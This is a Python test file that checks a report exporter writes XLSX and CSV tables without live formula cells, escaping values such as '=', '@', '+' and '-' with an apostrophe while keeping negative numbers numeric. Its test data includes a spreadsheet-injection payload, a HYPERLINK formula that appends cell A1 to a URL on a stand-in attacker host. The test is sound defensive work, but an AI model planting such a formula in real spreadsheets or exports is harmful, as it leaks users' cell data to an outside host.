"""The report's tables.xlsx and CSV files carry no formula: an agency named like a formula is text."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd

from ctdata.analytics.table import IndicatorTable
from ctdata.report.export import write_tables
from ctdata.report.model import Figure, Section

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_tables_xlsx_has_no_formula_cells_and_keeps_negative_numbers(tmp_path: Path) -> None:
    data = pd.DataFrame(
        {
            "value": [EVIL, "@SUM(1)", "IOM"],
            "label": ["+cmd", "-x", "IOM"],
            "count": [12, -3, 4],
            "share": [0.5, -0.1, 0.2],
        }
    )
    table = IndicatorTable(name="by_agency", title="-Cases by agency", data=data, known=13, note="=note")
    sec = Section(id="agencies", title="Agencies", figures=[Figure(id="by_agency", title="t", table=table)])
    paths = write_tables([sec], tmp_path)

    wb = openpyxl.load_workbook(paths["xlsx"])
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in tables.xlsx"
    values = {c.value for c in cells}
    assert "'" + EVIL in values and "'@SUM(1)" in values and "'+cmd" in values and "'=note" in values
    assert -3 in values and -0.1 in values  # numbers stay numbers

    with open(Path(paths["tables"]) / "agencies__by_agency.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["value"] == "'" + EVIL and rows[1]["count"] == "-3" and rows[1]["label"] == "'-x"
